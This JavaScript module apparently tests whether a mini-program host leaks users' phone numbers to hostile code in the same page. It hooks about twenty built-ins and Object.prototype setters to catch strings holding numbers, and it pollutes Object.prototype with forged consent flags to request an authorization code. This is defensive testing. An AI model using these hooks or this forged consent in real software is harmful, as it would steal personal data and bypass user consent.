// Builtins that listen: whoever uses them in this realm, with a number in hand, has lost it.
const { stole, missed, hasNumber } = require('../utils/loot')
const { askForCode, call } = require('../utils/lab')

const { apply, getOwnPropertyDescriptor, ownKeys } = Reflect
const { defineProperty } = Object

const WIRES = [
  [JSON, 'parse'], [JSON, 'stringify'], [Promise.prototype, 'then'], [Promise, 'resolve'],
  [Array.prototype, 'push'], [Array.prototype, 'map'], [Array.prototype, 'forEach'], [Array.prototype, 'shift'],
  [Map.prototype, 'get'], [Map.prototype, 'set'], [Map.prototype, 'delete'], [Object, 'assign'], [Object, 'keys'],
  [Function.prototype, 'call'], [Function.prototype, 'apply'], [Function.prototype, 'bind'],
  [String.prototype, 'split'], [String.prototype, 'slice'], [String.prototype, 'replace'], [RegExp.prototype, 'exec'],
]
const MEMBERS = ['phoneNumber', 'purePhoneNumber', 'phone', 'telNumber', 'subject', 'owner', 'secret']

/** Listens at every wire until `cut()`; `caught` holds what had a number in it. */
function wiretap() {
  const caught = []
  const listen = listener(caught)
  const cuts = [...WIRES.map(([owner, name]) => tap(owner, name, listen)), ...MEMBERS.map((name) => trap(name, listen)), toJson(listen)]
  return { caught, cut: () => cuts.forEach((cut) => cut()) }
}

function listener(caught) {
  let busy = false
  return (heard) => {
    if (busy) return
    busy = true
    try {
      const strings = stringsIn(heard, 3, [])
      if (hasNumber(strings)) caught[caught.length] = strings
    } finally {
      busy = false
    }
  }
}

// Values only, a few levels down: what passes by can be the whole page.
function stringsIn(value, depth, found) {
  if (typeof value === 'string') found[found.length] = value
  if (depth === 0 || typeof value !== 'object' || value === null) return found
  const keys = ownKeys(value)
  for (let i = 0; i < keys.length && i < 50; i++) {
    const member = getOwnPropertyDescriptor(value, keys[i])
    if (member) stringsIn(member.value, depth - 1, found)
  }
  return found
}

function tap(owner, name, listen) {
  const original = owner[name]
  owner[name] = function (...args) {
    const result = apply(original, this, args)
    listen([args, result])
    return result
  }
  return () => {
    owner[name] = original
  }
}

function trap(name, listen) {
  const set = function (value) {
    listen(value)
    defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true })
  }
  defineProperty(Object.prototype, name, { set, get: () => undefined, configurable: true })
  return () => delete Object.prototype[name]
}

function toJson(listen) {
  const value = function () {
    listen(this)
    return this
  }
  defineProperty(Object.prototype, 'toJSON', { value, configurable: true })
  return () => delete Object.prototype.toJSON
}

const heard = (caught) => (caught.length > 0 ? stole(caught) : missed('silence'))

async function listenToAnswers() {
  const { caught, cut } = wiretap()
  try {
    await call('login')
    await call('getSetting')
    await call('getStorage', { key: 'nothing' })
    await call('getPhoneNumber')
  } finally {
    cut()
  }
  return heard(caught)
}

async function polluteTheRequest() {
  const forged = { gesture: true, trusted: true, user: 'mei', userId: 'mei', consent: 'allow', session: 0 }
  for (const [name, value] of Object.entries(forged)) {
    defineProperty(Object.prototype, name, { value, configurable: true, writable: true, enumerable: true })
  }
  try {
    return await askForCode()
  } finally {
    for (const name of Object.keys(forged)) delete Object.prototype[name]
  }
}

const cold = [
  { name: 'listen to the answers of the host', run: listenToAnswers },
  { name: 'put a tap into every object', run: polluteTheRequest },
]

const late = [{ name: 'listen while the user consents', run: ({ caught }) => heard(caught) }]

module.exports = { cold, late, wiretap }
